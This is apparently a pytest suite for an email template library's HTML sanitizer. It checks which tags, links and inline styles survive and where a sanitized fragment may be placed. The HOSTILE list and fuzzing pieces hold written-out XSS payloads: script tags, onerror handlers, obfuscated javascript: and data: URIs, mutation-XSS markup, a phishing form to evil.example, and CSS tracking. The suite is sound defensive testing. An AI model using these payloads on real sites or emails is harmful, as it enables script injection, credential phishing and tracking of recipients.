"""The sanitizer policy of {{{x}}} in an HTML part, and where a sanitized fragment may stand.

The policy: tables, text formatting, lists, https/mailto links (with rel="noopener noreferrer"), https
images and a safe subset of inline styles survive; anything that can run, submit, load a page or restyle the
whole email does not. Placement: a fragment is markup only in element content; anywhere else its value is
escaped as {{x}} is.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from email_sender.handlebars import Escaping, compile_template
from email_sender.html_fragments import ALLOWED_TAGS, Fragments, sanitize

VOID = {"br", "col", "hr", "img", "wbr"}


class _Elements(HTMLParser):
    """Start and end tags with their attributes, as a browser's tokenizer reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(("start", tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(("start", tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.tags.append(("end", tag, {}))


def elements(html: str) -> list[tuple[str, str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.tags


def assert_inert(html: str) -> None:
    """Nothing in `html` can run, submit, load a page or step outside the fragment."""
    depth = 0
    for kind, tag, attrs in elements(html):
        if kind == "end":
            if tag not in VOID:
                depth -= 1
            assert depth >= 0, f"</{tag}> closes an element the fragment did not open: {html!r}"
            continue
        if tag not in VOID:
            depth += 1
        assert tag in ALLOWED_TAGS, f"<{tag}> kept: {html!r}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{name} kept: {html!r}"
            if name in {"href", "src", "cite"}:
                assert value and re.match(r"(https|mailto):", value), f"{name}={value!r} kept: {html!r}"
            if name == "style":
                assert value and not re.search(r"url|expression|\\|position|@|/\*", value, re.I), html
    assert depth == 0, f"unclosed elements: {html!r}"


# -- the policy ----------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://example.com/a.png" onerror="alert(1)">',
    "<div onclick=alert(1) onmouseover='alert(2)'>x</div>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">tab</a>',
    '<a href="java&#x0A;script:alert(1)">newline</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">entities</a>',
    '<a href=" &#14;  javascript:alert(1)">leading junk</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
    '<iframe src="https://evil.example/"></iframe><frameset><frame src=x></frameset>',
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>',
    "<style>body { display: none }</style>",
    '<p style="position:fixed;top:0;background:url(https://evil.example/t.png)">x</p>',
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="background-image: u\\rl(https://evil.example/)">x</p>',
    '<p style="color:red;/* */behavior:url(x.htc)">x</p>',
    "<template><img src=x onerror=alert(1)></template>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<a href=https://example.com>unclosed <b>bold",
    "</td></tr></table></body><p>closes the template?</p>",
]


@pytest.mark.parametrize("fragment", HOSTILE)
def test_nothing_that_can_run_or_submit_survives(fragment: str) -> None:
    cleaned = sanitize(fragment)
    assert_inert(cleaned)
    assert "<script" not in cleaned.lower()


@pytest.mark.parametrize(
    ("fragment", "cleaned"),
    [
        (
            '<a href="https://example.com/p?a=1&b=2">x</a>',
            '<a href="https://example.com/p?a=1&amp;b=2" rel="noopener noreferrer">x</a>',
        ),
        (
            '<a href="https://example.com" rel="opener" target="_blank">x</a>',
            '<a href="https://example.com" rel="noopener noreferrer">x</a>',
        ),
        (
            '<a href="mailto:ada@example.com">Ada</a>',
            '<a href="mailto:ada@example.com" rel="noopener noreferrer">Ada</a>',
        ),
        # No http (a link in an email should not travel in clear), nothing relative: the text stays.
        ('<a href="http://example.com">x</a>', '<a rel="noopener noreferrer">x</a>'),
        (
            '<a href="/account">x</a><a href="//evil.example/">y</a>',
            '<a rel="noopener noreferrer">x</a><a rel="noopener noreferrer">y</a>',
        ),
        (
            '<img src="https://example.com/logo.png" alt="Logo" width="96">',
            '<img src="https://example.com/logo.png" alt="Logo" width="96">',
        ),
        (
            "<p><b>bold</b> <i>it</i> <u>u</u> <code>c</code><br>line</p>",
            "<p><b>bold</b> <i>it</i> <u>u</u> <code>c</code><br>line</p>",
        ),
        (
            '<ul><li>a</li></ul><ol start="3"><li>b</li></ol>',
            '<ul><li>a</li></ul><ol start="3"><li>b</li></ol>',
        ),
        ('<font color="#c00" face="Arial">red</font>', '<font color="#c00" face="Arial">red</font>'),
        ('<span class="muted" title="t" id="x" name="n">s</span>', '<span class="muted" title="t">s</span>'),
        ("Tom & Jerry <3", "Tom &amp; Jerry &lt;3"),
    ],
)
def test_links_formatting_and_text_survive(fragment: str, cleaned: str) -> None:
    assert sanitize(fragment) == cleaned


def test_tables_survive_whole() -> None:
    table = (
        '<table border="1" cellpadding="4" cellspacing="0" width="100%"><thead><tr><th colspan="2" '
        'align="left">Round</th></tr></thead><tbody><tr><td valign="top" bgcolor="#eee">1</td>'
        '<td rowspan="2">Ada</td></tr></tbody></table>'
    )
    assert sanitize(table) == table
    # The parser adds the tbody that HTML implies, as a browser would.
    assert (
        sanitize("<table><tr><td>a</td></tr></table>") == "<table><tbody><tr><td>a</td></tr></tbody></table>"
    )


@pytest.mark.parametrize(
    "fragment",
    [
        '<tr>\n  <td style="padding-left: 4px">1</td>\n  <td>Ada</td>\n</tr>\n<tr><td>2</td></tr>',
        '<td align="right">1</td><th scope="row">Ada</th>',
        "<thead><tr><th>#</th></tr></thead><tbody><tr><td>1</td></tr></tbody>",
        "<caption>Pairings</caption><tbody><tr><td>1</td></tr></tbody>",
        '<colgroup><col span="2"></colgroup><tbody><tr><td>1</td></tr></tbody>',
        '<col span="1"><col span="2">',
    ],
)
def test_table_parts_keep_their_structure_for_the_table_around_them(fragment: str) -> None:
    """In a <div>, an HTML parser drops <tr> and <td> and keeps their text; these are table parts."""
    cleaned = sanitize(fragment)
    assert cleaned == fragment.replace("padding-left: 4px", "padding-left:4px")
    assert_inert(cleaned)


@pytest.mark.parametrize(
    ("fragment", "cleaned"),
    [
        (
            "<tr><td>a</td></tr></table><table><tr><td>b</td></tr>",
            "a<table><tbody><tr><td>b</td></tr></tbody></table>",
        ),
        ("<tr><td>a</td></tr>text outside any cell", "atext outside any cell"),
        ("<tr><td>a</td></tr></tbody><tbody><tr><td>b</td></tr>", "ab"),
        # The parser puts the text before the table it needs: the result ends as the table, not starts.
        ("<tr>x", "x"),
        ("<col>x", "x"),
    ],
)
def test_a_row_fragment_that_breaks_out_of_its_table_loses_its_rows_not_its_balance(
    fragment: str, cleaned: str
) -> None:
    assert sanitize(fragment) == cleaned
    assert_inert(cleaned)


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red; padding-left: 4px", "color:red;padding-left:4px"),
        (
            "font-family: 'Helvetica Neue', Arial, sans-serif; font-size: 12px/1.5",
            "font-family:'Helvetica Neue', Arial, sans-serif;font-size:12px/1.5",
        ),
        (
            "color: rgb(0, 128, 0); background-color: rgba(0,0,0,.5) !important",
            "color:rgb(0, 128, 0);background-color:rgba(0,0,0,.5) !important",
        ),
        (
            "border: 1px solid #ddd; border-collapse: collapse; -webkit-box: x",
            "border:1px solid #ddd;border-collapse:collapse",
        ),
        ("position: fixed; top: 0; z-index: 9; transform: scale(9)", None),
        ("margin-top: -400px; padding: 4px", "padding:4px"),
        ("background: url(https://tracker.example/p.png)", None),
        ("width: calc(100% - 2px); color: var(--x)", None),
        ("color: red\\;", None),
        ("content: 'x'; display: none", "display:none"),
    ],
)
def test_inline_styles_keep_a_safe_subset(style: str, kept: str | None) -> None:
    attribute = "" if kept is None else f' style="{kept}"'
    assert sanitize(f'<p style="{style}">x</p>') == f"<p{attribute}>x</p>"


HOSTILE_PIECES = st.sampled_from(
    [
        "<",
        ">",
        "</",
        "<!--",
        "-->",
        '"',
        "'",
        "=",
        "&",
        "&#x09;",
        "javascript:",
        "data:",
        " ",
        "\n",
        "<script>",
        "</script>",
        "<tr>",
        "<td>",
        "</td>",
        "</tr>",
        "<table>",
        "</table>",
        "<a href=",
        "<img src=",
        " onerror=",
        " style=",
        "url(",
        "<svg>",
        "<math>",
        "<style>",
        "</style>",
        "<form>",
        "<textarea>",
        "<noscript>",
        "<p title='",
        "https://x.example/",
        "alert(1)",
        "<iframe>",
        "</p>",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(HOSTILE_PIECES, max_size=24).map("".join))
def test_any_mix_of_hostile_pieces_comes_out_inert_and_balanced(fragment: str) -> None:
    assert_inert(sanitize(fragment))


# -- where a fragment may stand ------------------------------------------------------------------------


def render(html: str, **data: str) -> str:
    fragments = Fragments()
    return fragments.place(compile_template(html).render(data, Escaping.HTML, fragments))


FRAGMENT = '<b>bold</b> "quoted" <img src=x onerror=alert(1)>'
SANITIZED = '<b>bold</b> "quoted" <img>'
ESCAPED = "&lt;b&gt;bold&lt;/b&gt; &quot;quoted&quot; &lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;"


@pytest.mark.parametrize(
    "html",
    [
        "<div>{{{v}}}</div>",
        "<div>{{& v}}</div>",
        "{{{v}}}",
        "<p>a</p>\n{{{v}}}\n<p>b</p>",
        "<style>p { color: red }</style>{{{v}}}",
        "<title>t</title><textarea>x</textarea><script>var a = '</x>';</script>{{{v}}}",
        '<a href="https://example.com" title="a > b">{{{v}}}</a>',
        "<!-- a comment -->{{{v}}}<!---->",
        "<style>p { color: red }</STYLE>{{{v}}}",
        "<TEXTAREA>x</textarea\n>{{{v}}}",
        "<!DOCTYPE html><html><body>{{{v}}}</body></html>",
        "a < b {{{v}}}",
    ],
)
def test_in_element_content_a_fragment_is_sanitized_markup(html: str) -> None:
    rendered = render(html, v=FRAGMENT)
    assert SANITIZED in rendered and "onerror" not in rendered


@pytest.mark.parametrize(
    "html",
    [
        '<a href="{{{v}}}">x</a>',
        "<a href='{{{v}}}'>x</a>",
        "<a href={{{v}}}>x</a>",
        "<a {{{v}}}>x</a>",
        "<div{{{v}}}>x</div>",
        "<a title=\"a > b\" href='{{& v}}'>x</a>",
        "<!-- {{{v}}} -->",
        "<!-- a -- b {{{v}}} -->",
        "<!DOCTYPE {{{v}}}>",
        "</{{{v}}}>",
        "<{{{v}}}",
        "<style>{{{v}}}</style>",
        "<STYLE type=text/css>p{}{{{v}}}</style >",
        '<style title="</style>">{{{v}}}</style>',
        "<style>{{{v}}}",
        "<textarea>{{{v}}}",
        "<script>var x = '{{{v}}}';</script>",
        "<script><!-- </script> --></script><p>{{{v}}}</p>",
        "<title>{{{v}}}</title>",
        "<textarea>{{{v}}}</textarea>",
        "<noscript>{{{v}}}</noscript>",
        "<iframe>{{{v}}}</iframe>",
        "<xmp>{{{v}}}</xmp>",
        "<plaintext>{{{v}}}",
        '<a href="unterminated>{{{v}}}',
    ],
)
def test_anywhere_else_the_value_is_escaped_as_a_double_stash_would_be(html: str) -> None:
    rendered = render(html, v=FRAGMENT)
    assert ESCAPED in rendered
    assert "<b>" not in rendered and "<img" not in rendered


@pytest.mark.parametrize(
    "html",
    [
        "<{{{tag}}} {{{v}}}>",
        "<{{{tag}}}{{{v}}}</p>",
        "<{{& tag}}\n{{& v}}/>",
        "<{{{tag}}}>x</{{{tag}}}><p>{{{v}}}</p>",
        "</{{{tag}}} {{{v}}}>",
        "<h{{{tag}}} {{{v}}}>",
    ],
)
def test_after_a_raw_value_in_a_tag_name_every_value_is_escaped(html: str) -> None:
    """Escaped, a value in a tag's name still names the element (any, a <script> too), and the values
    after it may be its attributes: none of them is markup."""
    rendered = render(html, tag="img", v=" src=x onerror=alert(1) ")
    assert "onerror=" not in rendered and "onerror&#x3D;alert(1)" in rendered
    assert elements(rendered)[0][2].get("onerror") is None


def test_one_value_is_markup_in_content_and_text_in_an_attribute() -> None:
    rendered = render('<p title="{{{v}}}">{{{v}}}</p><style>{{{v}}}</style>{{{v}}}', v="<i>x</i>")
    assert (
        rendered == '<p title="&lt;i&gt;x&lt;/i&gt;"><i>x</i></p><style>&lt;i&gt;x&lt;/i&gt;</style><i>x</i>'
    )


def test_a_double_stash_stays_escaped_and_an_empty_value_writes_nothing() -> None:
    assert render("<p>{{v}}|{{{e}}}|{{& e}}</p>", v="<b>x</b>", e="") == "<p>&lt;b&gt;x&lt;/b&gt;||</p>"


def test_a_part_without_the_placeholders_of_its_values_is_left_as_it_is() -> None:
    fragments = Fragments()
    fragments("<b>x</b>")
    assert fragments.place("<p>no placeholder</p>") == "<p>no placeholder</p>"


def test_data_cannot_forge_a_placeholder() -> None:
    forged = "\ue000" + "0" * 16 + ":0\ue001"
    rendered = render("<p>{{v}}</p><div>{{{w}}}</div>", v=forged, w="<b>w</b>")
    assert rendered == f"<p>{forged}</p><div><b>w</b></div>"
